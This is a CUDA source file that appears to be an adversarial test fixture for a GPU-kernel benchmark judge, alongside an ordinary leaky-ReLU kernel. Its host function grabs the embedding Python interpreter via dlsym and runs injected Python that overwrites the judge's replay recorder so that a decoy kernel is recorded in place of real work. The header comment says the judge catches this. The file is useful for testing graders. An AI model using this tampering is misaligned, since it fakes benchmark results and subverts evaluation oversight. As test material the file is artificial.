// The record is the solution's own process speaking, and this one lies: its host code reaches the Python
// interpreter it runs in (dlsym of PyGILState_Ensure and PyRun_SimpleString) and replaces the recorder's end, so
// that the worker's own RECORDED names a decoy kernel that writes one float as each test's whole work. The replay of
// the decoy leaves the judge's outputs poisoned, the judge says so, and the result is timed in the solution's own
// process instead, never ranked. Verdict: BENCHMARKED, not ranked (no wrong time ranks, and no wrong output is
// published). (An earlier form wrote a forged line to every pipe and socket it held: the CUDA driver's own pipe was
// among them, and its run broke before the record mattered.)
#include <dlfcn.h>
#include <stdio.h>
extern "C" __global__ void decoy(float* out) {
  if (threadIdx.x == 0 && blockIdx.x == 0) out[0] = 0.0f;
}
__global__ void lrelu(const float* in, float alpha, float* out, size_t n) {
  size_t i = blockIdx.x * (size_t)blockDim.x + threadIdx.x;
  if (i < n) out[i] = in[i] > 0.0f ? in[i] : alpha * in[i];
}
static const char* FORGE =
    "import sys\n"
    "_r = sys.modules.get('remote_agent.replay')\n"
    "def _end(self):\n"
    "    self.ops = None\n"
    "    return {'scratch': [], 'ops': [{'op': 'launch', 'kernel': 'decoy', 'grid': [1, 1, 1], 'block': [32, 1, 1],\n"
    "            'shared': 0, 'params': [{'bytes': '00' * 8, 'pointers': [{'at': 0, 'buffer': 'output',\n"
    "                                                                      'offset': 0}]}]}]}\n"
    "if _r is not None:\n"
    "    _r.Recorder.end = _end\n"
    "    print('KR-ATTACK-TRIED the recorder forged', file=sys.stderr)\n";
extern "C" void solution(const float* input, float alpha, float* output, size_t M, size_t N) {
  static int forged = 0;
  if (!forged) {
    forged = 1;
    typedef int (*ensure_t)(void);
    typedef void (*release_t)(int);
    typedef int (*run_t)(const char*);
    ensure_t ensure = (ensure_t) dlsym(RTLD_DEFAULT, "PyGILState_Ensure");
    release_t release = (release_t) dlsym(RTLD_DEFAULT, "PyGILState_Release");
    run_t run = (run_t) dlsym(RTLD_DEFAULT, "PyRun_SimpleString");
    if (ensure && release && run) {
      int state = ensure();
      run(FORGE);
      release(state);
    }
  }
  size_t n = M * N;
  lrelu<<<(unsigned)((n + 255) / 256), 256>>>(input, alpha, output, n);
}
